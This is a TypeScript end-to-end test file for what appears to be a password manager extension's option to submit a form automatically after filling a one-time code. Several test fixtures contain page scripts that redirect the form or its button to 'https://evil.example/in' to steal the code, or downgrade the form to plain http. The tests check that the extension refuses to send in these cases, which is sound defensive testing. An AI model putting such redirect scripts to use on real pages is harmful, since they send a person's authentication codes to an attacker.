/**
 * Sending the form after filling, for the sites where the person switched it on:
 * which forms are sent, how, and which are not. Never twice with one code.
 */
import type { Page } from 'playwright';
import { afterEach, describe, expect, test } from 'vitest';
import { NORTHWIND, openList } from '@/test/support/journey';
import { acceptOffer, awaitOffer, fillFromPopup } from '@/test/support/product';
import { forgetRules, toggleForSite } from '@/test/support/site-rules';
import { startLogin, waitForCode, waitUntilSignedIn } from '@/test/support/site-visits';
import { useJourney } from '@/test/support/use-journey';
import { pause, waitUntil } from '@/test/support/wait';

const journey = useJourney();
afterEach(async () => {
  await journey.removeAccounts();
  await forgetRules(journey);
});

/** Longer than a form waits before it is sent for the person. */
const SENDING_TIME = 2_000;

const origin = (): string => journey.site.origin(NORTHWIND);

describe('sending the form', () => {
  test('happens where it was switched on, once, and the site lets in', async () => {
    const { user } = await journey.share({ user: 'sends@example.com' });
    const page = await journey.browser.newPage();
    const step = await startLogin(page, origin(), user, 'single');
    await toggleForSite(journey, page, 'Send the form after filling');
    await acceptOffer(step.scope, step.field);
    await waitUntilSignedIn(page);
    expect(journey.site.logbook.filter(({ account }) => account === user)).toHaveLength(1);
  });

  test('happens after a double click as well', async () => {
    const { user } = await journey.share({ user: 'twice-pressed@example.com' });
    const page = await journey.browser.newPage();
    const step = await startLogin(page, origin(), user, 'single');
    await journey.ask('changeSite', { origin: origin(), change: { submits: true } });
    await step.field.click();
    const offer = await awaitOffer(step.scope);
    await offer.dblclick();
    await waitUntilSignedIn(page);
    expect(journey.site.logbook.filter(({ account }) => account === user)).toHaveLength(1);
  });

  test('happens after the popup’s Fill as well', async () => {
    const { user } = await journey.share({ user: 'popup-sends@example.com' });
    const page = await journey.browser.newPage();
    await startLogin(page, origin(), user, 'six');
    await journey.ask('changeSite', { origin: origin(), change: { submits: true } });
    await fillFromPopup(await openList(journey.browser, page));
    await waitUntilSignedIn(page);
  });

  test('does not happen without the switch', async () => {
    const { user } = await journey.share({ user: 'waits@example.com' });
    const page = await journey.browser.newPage();
    const step = await startLogin(page, origin(), user, 'single');
    await acceptOffer(step.scope, step.field);
    await waitForCode(step);
    await pause(SENDING_TIME);
    expect(await page.getByLabel('Authentication code').isVisible()).toBe(true);
  });

  test('does not happen twice with one code: the site took it, and would refuse it', async () => {
    const { user } = await journey.share({ user: 'twice@example.com' });
    const page = await journey.browser.newPage();
    await journey.ask('changeSite', { origin: origin(), change: { submits: true } });
    // Both within one time step, and not at its end, where the next code is filled.
    await waitUntil('a young time step', () => Date.now() % 30_000 < 12_000, 40_000);
    const first = await startLogin(page, origin(), user, 'single');
    await acceptOffer(first.scope, first.field);
    await waitUntilSignedIn(page);
    await page.context().clearCookies();
    const second = await startLogin(page, origin(), user, 'single');
    await acceptOffer(second.scope, second.field);
    await waitForCode(second);
    await pause(SENDING_TIME);
    expect(await second.readCode()).toMatch(/^\d{6}$/);
    expect(journey.site.logbook.filter(({ account }) => account === user)).toHaveLength(1);
  });

  test('is left to a page that does it by itself', async () => {
    const { user } = await journey.share({ user: 'eager@example.com' });
    await journey.ask('changeSite', { origin: origin(), change: { submits: true } });
    const page = await journey.visit(NORTHWIND, `/odd/eager?user=${user}`);
    await acceptOffer(page, page.getByLabel('Authentication code'));
    await page.getByRole('heading', { name: 'You are in' }).waitFor();
    await pause(SENDING_TIME);
    const tries = journey.site.logbook.filter((entry) => entry.page === 'eager');
    expect(tries.map(({ verdict }) => verdict)).toEqual(['accepted']);
  });

  test('does not happen for an account that is linked with this very fill', async () => {
    const user = 'linked-now@example.com';
    await journey.share({ user, links: [] });
    await journey.ask('changeSite', { origin: origin(), change: { submits: true } });
    const page = await journey.browser.newPage();
    const step = await startLogin(page, origin(), user, 'single');
    const popup = await openList(journey.browser, page);
    const ask = await journey.ask('open', { askId: null, count: 10 });
    await popup.close();
    const account = ask.listing?.rows[0]?.account;
    if (account === undefined || ask.ask === null) throw new Error('The popup shows no account.');
    // As the popup says it, once the person has picked the account.
    await journey.ask('fill', { id: account.id, askId: ask.ask.id, link: true });
    await waitForCode(step);
    await pause(SENDING_TIME);
    expect(await page.getByLabel('Authentication code').isVisible()).toBe(true);
  });
});

describe('sending, on pages that make it hard', () => {
  const NAMED = 'https://example.com';
  const FIELD = '<label>One-time code <input id="x" name="otp" autocomplete="one-time-code"></label>';

  /** A page under a real name, filled by its offer with the switch on; what it asked of any server, and what it tells. */
  async function fillAndWait(
    body: string,
    script = '',
    onFill = async (_page: Page): Promise<void> => {},
  ): Promise<{ requests: string[]; told: string; url: string }> {
    await journey.share({ user: `${crypto.randomUUID()}@example.com`, links: [NAMED] });
    await journey.ask('changeSite', { origin: NAMED, change: { submits: true } });
    const page = await journey.browser.newPage();
    const requests: string[] = [];
    await page.route(/^https:/, async (route) => {
      const { pathname, host } = new URL(route.request().url());
      requests.push(`${route.request().method()} ${host}${pathname}`);
      if (pathname === '/slow') await pause(SENDING_TIME);
      const html = `<!doctype html><title>Sign in</title><h1>Two-factor authentication</h1>${body}<script>${script}</script>`;
      return route.fulfill({ contentType: 'text/html', body: html });
    });
    await page.goto(`${NAMED}/login`);
    requests.length = 0;
    const field = page.locator('#x');
    await acceptOffer(page, field);
    await onFill(page);
    await waitUntil(
      'a filled or sent code',
      async () => requests.length > 0 || /^\d{6}$/.test(await field.inputValue()),
    );
    await pause(SENDING_TIME);
    return { requests, told: await page.title(), url: page.url() };
  }

  test('without a form, Enter is pressed in the field', async () => {
    const script =
      'x.addEventListener("keydown", ({ key }) => { if (key === "Enter") document.title = x.value.length });';
    expect(await fillAndWait(FIELD, script)).toMatchObject({ told: '6', requests: [] });
  });

  test('the button is pressed once, as Enter would', async () => {
    const body = `<form action="/in" method="post" id="f">${FIELD}<button>Verify</button></form>`;
    const script = 'let n = 0; f.onsubmit = (event) => { event.preventDefault(); document.title = ++n; }';
    expect(await fillAndWait(body, script)).toMatchObject({ told: '1', requests: [] });
  });

  test('a button that counts the seconds is not at work', async () => {
    const body = `<form action="/in" method="post">${FIELD}<button>Verify</button><button type="button" id="n">Send again (61)</button></form>`;
    const script =
      'let n = 60; setInterval(() => { document.querySelector("#n").textContent = "Send again (" + n-- + ")"; }, 200);';
    expect(await fillAndWait(body, script)).toMatchObject({ requests: ['POST example.com/in'] });
  });

  test('a form without a button goes by POST alone: else the code would stand in the address', async () => {
    expect((await fillAndWait(`<form action="/in" method="post">${FIELD}</form>`)).requests).toEqual([
      'POST example.com/in',
    ]);
    await journey.removeAccounts();
    expect(await fillAndWait(`<form action="/in">${FIELD}</form>`)).toMatchObject({
      requests: [],
      url: `${NAMED}/login`,
    });
  });

  test('a form whose fields have the names of its methods is sent all the same', async () => {
    const body = `<form action="/in" method="post"><input type="hidden" name="requestSubmit"><input type="hidden" name="submit"><input type="hidden" name="method"><input type="hidden" name="elements">${FIELD}</form>`;
    expect((await fillAndWait(body)).requests).toEqual(['POST example.com/in']);
  });

  test.each<[string, string, string]>([
    [
      'that is led to another site after the fill',
      `<form action="/in" method="post" id="f">${FIELD}<button>Verify</button></form>`,
      'x.oninput = () => { f.action = "https://evil.example/in"; };',
    ],
    [
      'whose button is led to another site',
      `<form action="/in" method="post">${FIELD}<button id="b">Verify</button></form>`,
      'x.oninput = () => { b.setAttribute("formaction", "https://evil.example/in"); };',
    ],
    [
      'that is led to where nothing is encrypted',
      `<form action="/in" method="post" id="f">${FIELD}<button>Verify</button></form>`,
      'x.oninput = () => { f.action = "http://example.com/in"; };',
    ],
    [
      'whose field was exchanged',
      `<form action="/in" method="post">${FIELD}<button>Verify</button></form>`,
      'x.oninput = () => setTimeout(() => { const y = x.cloneNode(); y.value = x.value; x.replaceWith(y); }, 100);',
    ],
    [
      'whose code was changed',
      `<form action="/in" method="post">${FIELD}<button>Verify</button></form>`,
      'x.oninput = () => setTimeout(() => { x.value = "111111"; }, 200);',
    ],
    [
      'whose button is switched off',
      `<form action="/in" method="post">${FIELD}<button disabled>Verify</button></form>`,
      '',
    ],
  ])('a form is not sent %s', async (_name, body, script) => {
    expect((await fillAndWait(body, script)).requests).toEqual([]);
  });

  test.each([
    ['its server', 'fetch("/verify", { method: "POST" })', 'POST example.com/verify'],
    [
      'a server of another name',
      'fetch("https://api.example.net/verify", { method: "POST", mode: "no-cors" })',
      'POST api.example.net/verify',
    ],
    [
      'a slow server, and says so on its button',
      '(b.textContent = "Verifying…", fetch("/slow"))',
      'GET example.com/slow',
    ],
    ['a slow server, and turns a wheel', '(b.className = "is-loading", fetch("/slow"))', 'GET example.com/slow'],
    ['a slow server, and shows its wheel', '(w.hidden = false, fetch("/slow"))', 'GET example.com/slow'],
  ])('a page that asks %s by itself is left alone', async (_name, asking, request) => {
    const body = `<form action="/in" method="post" id="f">${FIELD}<button id="b">Verify</button><i class="spinner" id="w" hidden>…</i></form>`;
    const script = `f.onsubmit = () => { document.title = "sent" }; x.oninput = () => { if (x.value.length === 6) ${asking}; };`;
    expect(await fillAndWait(body, script)).toMatchObject({ told: 'Sign in', requests: [request] });
  });

  test('a person who goes on by themselves is left alone', async () => {
    const body = `<form action="/in" method="post" id="f">${FIELD}<button>Verify</button></form>`;
    const script =
      'let n = 0; f.onsubmit = (event) => { event.preventDefault(); document.title = ++n; }; x.oninput = () => { document.title = "filled"; };';
    const onFill = async (page: Page): Promise<void> => {
      await page.waitForFunction(() => document.title === 'filled');
      await page.getByRole('button', { name: 'Verify' }).click();
    };
    expect(await fillAndWait(body, script, onFill)).toMatchObject({ told: '1', requests: [] });
  });
});
